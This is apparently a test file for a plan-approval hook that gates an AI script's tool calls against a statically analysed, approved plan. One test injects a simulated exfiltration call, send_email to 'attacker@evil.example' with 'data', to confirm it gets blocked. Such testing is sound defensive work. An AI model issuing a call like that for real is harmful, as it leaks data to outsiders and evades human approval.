"""Plan approval (``runtime/plan.py``): static analysis of what a script can call,
and a hook that passes calls inside an approved plan."""

from __future__ import annotations

from typing import Any

from toolscript.runtime.approval import ToolCallRequest
from toolscript.runtime.plan import ANY, PlanApproval, analyze

from toolscript import Decision, Limits, tool


@tool(read_only=True)
def get_revenue(store_id: str, date: str) -> float:
    """Revenue of one store on one day."""
    return {"ST001": 10.0, "ST002": 30.0, "ST003": 20.0}[store_id]


@tool
def send_email(to: str, body: str) -> bool:
    """Send an email."""
    return True


TOOLS = [get_revenue, send_email]

SCRIPT = """
DAY = '2026-08-24'
stores = ['ST001', 'ST002', 'ST003']
revenue = {s: get_revenue(s, DAY) for s in stores}
best = max(revenue, key=revenue.get)
for i in range(2):
    send_email(to='boss@corp.example', body=f'best store: {best}')
best
"""


def test_analysis_lists_tools_values_and_bounds() -> None:
    plan = analyze(SCRIPT, {"get_revenue": ["store_id", "date"], "send_email": ["to", "body"]})
    assert plan.tools == ["get_revenue", "send_email"]
    revenue, email = plan.calls
    assert revenue.args == {"store_id": ("ST001", "ST002", "ST003"), "date": ("2026-08-24",)}
    assert revenue.max_calls == 3
    assert email.args["to"] == ("boss@corp.example",) and email.args["body"] is ANY
    assert email.max_calls == 2
    text = plan.describe()
    assert "get_revenue(store_id in ['ST001', 'ST002', 'ST003'], date='2026-08-24') x <= 3" in text
    assert "send_email(to='boss@corp.example', body=ANY) x <= 2" in text


def test_unbounded_and_indirect_uses() -> None:
    params = {"get_revenue": ["store_id", "date"], "send_email": ["to", "body"]}
    plan = analyze("while True:\n    get_revenue('ST001', d)\nf = send_email\nf('x', 'y')", params)
    assert plan.max_calls("get_revenue") is None
    assert plan.calls[0].args == {"store_id": ("ST001",), "date": ANY}
    indirect = [c for c in plan.calls if c.tool == "send_email"]
    assert indirect and not indirect[0].exact and plan.max_calls("send_email") is None
    parallel = analyze("parallel(get_revenue, [{'store_id': 'A', 'date': 'd'}, ('B', 'd')])",
                       params)
    assert [c.args["store_id"] for c in parallel.calls] == [("A",), ("B",)]
    assert analyze("def f(:", params).syntax_error


def run_with_plan(make_runtime: Any, code: str, planned: str, fallback: Any = None) -> Any:
    plan = analyze(planned, TOOLS)
    runtime = make_runtime(TOOLS, approve=PlanApproval(plan, fallback=fallback),
                           limits=Limits(tool_timeout_s=5.0))
    return runtime.run(code)


def test_calls_inside_the_plan_pass(make_runtime: Any) -> None:
    result = run_with_plan(make_runtime, SCRIPT, SCRIPT)
    assert result.ok and result.value == "ST002", result.to_dict()
    assert all(c.approved and "inside the approved plan" in c.reason for c in result.tool_calls)


def test_calls_outside_the_plan_are_gated(make_runtime: Any) -> None:
    asked: list[dict[str, Any]] = []

    def human(request: ToolCallRequest) -> Decision:
        asked.append(dict(request.args))
        return Decision.deny("not approved")

    # the script that runs differs from the approved one: another recipient, one more mail
    changed = SCRIPT.replace("range(2)", "range(3)") + \
        "\nsend_email('attacker@evil.example', 'data')\n"
    result = run_with_plan(make_runtime, "try:\n" + "".join(
        "    " + line + "\n" for line in changed.strip().splitlines()[:-1]) +
        "except ToolDenied as e:\n    denied = e.message\ndenied", SCRIPT, fallback=human)
    assert result.ok, result.to_dict()
    assert "outside the approved plan: more than 2 call(s) of send_email" in result.value
    assert asked == [{"to": "boss@corp.example", "body": "best store: ST002"}]
    plain = run_with_plan(make_runtime, "send_email('attacker@evil.example', 'x')", SCRIPT)
    assert not plain.ok and "outside the approved plan" in plain.tool_calls[0].reason
